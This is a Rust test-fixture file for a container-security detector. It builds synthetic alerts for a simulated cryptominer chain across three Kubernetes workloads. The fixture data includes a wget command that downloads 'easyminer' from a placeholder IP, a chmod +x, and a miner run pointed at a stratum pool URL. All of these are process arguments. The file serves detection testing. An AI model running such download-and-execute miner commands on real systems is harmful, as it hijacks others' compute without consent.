//! Hand-built alerts: the mission scenario and small builders for edge cases.
#![allow(dead_code)]

use std::net::{IpAddr, Ipv4Addr};

use saker_event::event::{Connect, Exec, FileKind, FileOp, Process, AT_FDCWD};
use saker_event::{
    Alert, Ancestor, BString, Body, ContainerMeta, Context, Enriched, Event, ProcContext, Severity,
};

pub const SEC: i64 = 1_000_000_000;
pub const T0: i64 = 1_767_225_600 * SEC; // 2026-01-01T00:00:00Z

pub const SCRIPT: &str = "./malicious-bin-event-gen.sh";
pub const MINER_SHA: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
pub const SHIM: &str = "/usr/local/bin/containerd-shim-runc-v2";

/// A container (or the host when `cid` is `None`).
#[derive(Clone)]
pub struct Wl {
    pub cluster: String,
    pub node: String,
    pub cid: Option<String>,
    pub meta: Option<ContainerMeta>,
}

pub fn container(ns: &str, workload: &str, pod: &str, name: &str, image: &str, cid: &str) -> Wl {
    Wl {
        cluster: "prod-eu-1".into(),
        node: "node-a".into(),
        cid: Some(cid.into()),
        meta: Some(ContainerMeta {
            id: cid.into(),
            runtime: "containerd".into(),
            name: Some(name.into()),
            image: Some(image.into()),
            pod_name: Some(pod.into()),
            namespace: Some(ns.into()),
            workload: Some(workload.into()),
            ..ContainerMeta::default()
        }),
    }
}

pub fn host() -> Wl {
    Wl {
        cluster: "prod-eu-1".into(),
        node: "node-a".into(),
        cid: None,
        meta: None,
    }
}

/// The three workloads of the mission: two in `risk-10-aws-bedrock-java`, one elsewhere.
pub fn mission_workloads() -> Vec<Wl> {
    vec![
        container(
            "risk-10-aws-bedrock-java",
            "bedrock-java",
            "bedrock-java-7d9f8c6b5-x2k4p",
            "app",
            "docker.io/acme/bedrock-java:1.4.2",
            &format!("{:0>64}", "c1"),
        ),
        container(
            "risk-10-aws-bedrock-java",
            "bedrock-java-worker",
            "bedrock-java-worker-5c8d7-q9wz1",
            "worker",
            "docker.io/acme/bedrock-java:1.4.2",
            &format!("{:0>64}", "c2"),
        ),
        container(
            "risk-11-payments",
            "payments-api",
            "payments-api-6f7b9-mm3tr",
            "api",
            "docker.io/acme/payments-api:2.0.1",
            &format!("{:0>64}", "c3"),
        ),
    ]
}

pub fn b(s: &str) -> BString {
    BString::from(s)
}

pub fn anc(pid: u32, comm: &str, exe: &str, args: &[&str]) -> Ancestor {
    Ancestor {
        pid,
        comm: b(comm),
        exe: b(exe),
        args: args.iter().map(|a| b(a)).collect(),
    }
}

/// The process an alert is about.
#[derive(Clone)]
pub struct P {
    pub pid: u32,
    pub ppid: u32,
    pub comm: BString,
    pub exe: BString,
    pub args: Vec<BString>,
    pub ancestors: Vec<Ancestor>,
    pub sha: Option<String>,
    pub upper: bool,
}

impl P {
    pub fn new(pid: u32, ppid: u32, comm: &str, exe: &str, args: &[&str]) -> P {
        P {
            pid,
            ppid,
            comm: b(comm),
            exe: b(exe),
            args: args.iter().map(|a| b(a)).collect(),
            ancestors: Vec::new(),
            sha: None,
            upper: false,
        }
    }

    pub fn ancestors(mut self, a: Vec<Ancestor>) -> P {
        self.ancestors = a;
        self
    }

    /// The ancestor entry describing this process, for its children.
    pub fn as_ancestor(&self) -> Ancestor {
        Ancestor {
            pid: self.pid,
            comm: self.comm.clone(),
            exe: self.exe.clone(),
            args: self.args.clone(),
        }
    }

    /// Ancestry of a child of this process: this process, then its own ancestry.
    pub fn child_ancestry(&self) -> Vec<Ancestor> {
        let mut v = vec![self.as_ancestor()];
        v.extend(self.ancestors.iter().cloned());
        v
    }
}

pub struct Rule {
    pub name: &'static str,
    pub policy: &'static str,
    pub severity: Severity,
    pub tactic: &'static str,
    pub technique: &'static str,
}

pub const SHELL: Rule = Rule {
    name: "Suspicious - Shell Spawned By Non-Shell Parent In Container",
    policy: "Suspicious Activity",
    severity: Severity::Notice,
    tactic: "TA0002",
    technique: "T1059.004",
};
pub const DOWNLOADER: Rule = Rule {
    name: "Suspicious - Downloader Tool Run In Container",
    policy: "Suspicious Activity",
    severity: Severity::Warning,
    tactic: "TA0011",
    technique: "T1105",
};
pub const CHMOD: Rule = Rule {
    name: "Drift - Executable Bit Added In Container",
    policy: "Drift Detection",
    severity: Severity::Error,
    tactic: "TA0005",
    technique: "T1222.002",
};
pub const DRIFT: Rule = Rule {
    name: "Drift - Binary Executed From Container Upper Layer",
    policy: "Drift Detection",
    severity: Severity::Critical,
    tactic: "TA0002",
    technique: "T1204.002",
};
pub const MINER: Rule = Rule {
    name: "Malware - Known Cryptominer Executed",
    policy: "Malicious Binary Detection",
    severity: Severity::Critical,
    tactic: "TA0040",
    technique: "T1496",
};
pub const STRATUM: Rule = Rule {
    name: "Malware - Stratum Mining Protocol In Command Line",
    policy: "Malicious Binary Detection",
    severity: Severity::Critical,
    tactic: "TA0040",
    technique: "T1496",
};
pub const POOL: Rule = Rule {
    name: "Malware - Connection To Mining Pool Port",
    policy: "Malicious Binary Detection",
    severity: Severity::Critical,
    tactic: "TA0040",
    technique: "T1496",
};

pub fn exec_body(p: &P) -> Body {
    Body::Exec(Exec {
        filename: p.exe.clone(),
        args: p.args.clone(),
        args_truncated: false,
        filename_truncated: false,
        exe_dev: 0,
        exe_ino: 0,
        exe_overlay: true,
        exe_upper_layer: p.upper,
        exe_memfd: false,
        prevented: false,
    })
}

pub fn chmod_body(path: &str) -> Body {
    Body::File(FileOp {
        op: FileKind::Chmod,
        path: b(path),
        path_truncated: false,
        dfd: AT_FDCWD,
        flags: 0,
        mode: 0o755,
        ret: 0,
    })
}

pub fn connect_body(port: u16) -> Body {
    Body::Connect(Connect {
        fd: 3,
        addr: IpAddr::V4(Ipv4Addr::LOCALHOST),
        port,
        ret: 0,
    })
}

pub fn alert(id: &str, seq: u64, t: i64, rule: &Rule, p: &P, body: Body, wl: &Wl) -> Alert {
    Alert {
        id: id.into(),
        time_ns: t,
        rule: rule.name.into(),
        policy: Some(rule.policy.into()),
        severity: rule.severity,
        output: String::new(),
        output_fields: Default::default(),
        tags: Vec::new(),
        mitre_tactics: vec![rule.tactic.into()],
        mitre_techniques: vec![rule.technique.into()],
        prevented: false,
        event: Enriched {
            seq,
            event: Event {
                time_ns: t,
                ktime_ns: 0,
                process: Process {
                    tid: p.pid,
                    pid: p.pid,
                    ppid: p.ppid,
                    comm: p.comm.clone(),
                    ..Process::default()
                },
                body,
            },
            ctx: Context {
                proc: ProcContext {
                    exe: p.exe.clone(),
                    args: p.args.clone(),
                    ancestors: p.ancestors.clone(),
                    exe_sha256: p.sha.clone(),
                    exe_upper_layer: p.upper,
                    ..ProcContext::default()
                },
                container_id: wl.cid.clone(),
                container: wl.meta.clone(),
                node: wl.node.clone(),
                cluster: wl.cluster.clone(),
                ..Context::default()
            },
        },
    }
}

/// Pids of one run of the mission chain.
pub struct Chain {
    pub shim: u32,
    pub script: u32,
    pub wget: u32,
    pub chmod: u32,
    pub miner: u32,
}

impl Chain {
    pub fn at(base: u32) -> Chain {
        Chain {
            shim: base,
            script: base + 10,
            wget: base + 11,
            chmod: base + 12,
            miner: base + 13,
        }
    }
}

/// The mission's chain in one workload: `sh ./malicious-bin-event-gen.sh` (started through
/// the runtime, as `kubectl exec` does) downloads, chmods and runs easyminer, which connects
/// to a stratum pool on 127.0.0.1:3333. Alert ids are `<prefix>-<step>`.
pub fn mission_chain(prefix: &str, wl: &Wl, c: &Chain, t: i64, seq: u64) -> Vec<Alert> {
    let outside = vec![
        anc(
            c.shim,
            "containerd-shim",
            SHIM,
            &[SHIM, "-namespace", "k8s.io"],
        ),
        anc(1, "systemd", "/usr/lib/systemd/systemd", &["/sbin/init"]),
    ];
    let script = P::new(c.script, c.shim, "sh", "/bin/sh", &["sh", SCRIPT]).ancestors(outside);
    let wget = P::new(
        c.wget,
        c.script,
        "wget",
        "/usr/bin/wget",
        &[
            "wget",
            "http://203.0.113.7/easyminer",
            "-O",
            "/tmp/easyminer",
        ],
    )
    .ancestors(script.child_ancestry());
    let chmod = P::new(
        c.chmod,
        c.script,
        "chmod",
        "/bin/chmod",
        &["chmod", "+x", "/tmp/easyminer"],
    )
    .ancestors(script.child_ancestry());
    let mut miner = P::new(
        c.miner,
        c.script,
        "easyminer",
        "/tmp/easyminer",
        &["/tmp/easyminer", "--url", "stratum+tcp://127.0.0.1:3333"],
    )
    .ancestors(script.child_ancestry());
    miner.sha = Some(MINER_SHA.into());
    miner.upper = true;

    let id = |s: &str| format!("{prefix}-{s}");
    vec![
        alert(
            &id("shell"),
            seq,
            t,
            &SHELL,
            &script,
            exec_body(&script),
            wl,
        ),
        alert(
            &id("wget"),
            seq + 1,
            t + SEC,
            &DOWNLOADER,
            &wget,
            exec_body(&wget),
            wl,
        ),
        alert(
            &id("chmod"),
            seq + 2,
            t + 2 * SEC,
            &CHMOD,
            &chmod,
            chmod_body("/tmp/easyminer"),
            wl,
        ),
        alert(
            &id("drift"),
            seq + 3,
            t + 3 * SEC,
            &DRIFT,
            &miner,
            exec_body(&miner),
            wl,
        ),
        alert(
            &id("miner"),
            seq + 3,
            t + 3 * SEC,
            &MINER,
            &miner,
            exec_body(&miner),
            wl,
        ),
        alert(
            &id("stratum"),
            seq + 3,
            t + 3 * SEC,
            &STRATUM,
            &miner,
            exec_body(&miner),
            wl,
        ),
        alert(
            &id("pool"),
            seq + 4,
            t + 4 * SEC,
            &POOL,
            &miner,
            connect_body(3333),
            wl,
        ),
    ]
}

/// The full mission: the chain in each of the three workloads, 30 s apart.
pub fn mission() -> Vec<Alert> {
    mission_workloads()
        .iter()
        .enumerate()
        .flat_map(|(k, wl)| {
            let k32 = k as u32;
            mission_chain(
                &format!("w{}", k + 1),
                wl,
                &Chain::at(1000 * (k32 + 1)),
                T0 + 30 * SEC * k as i64,
                100 * (k as u64 + 1),
            )
        })
        .collect()
}
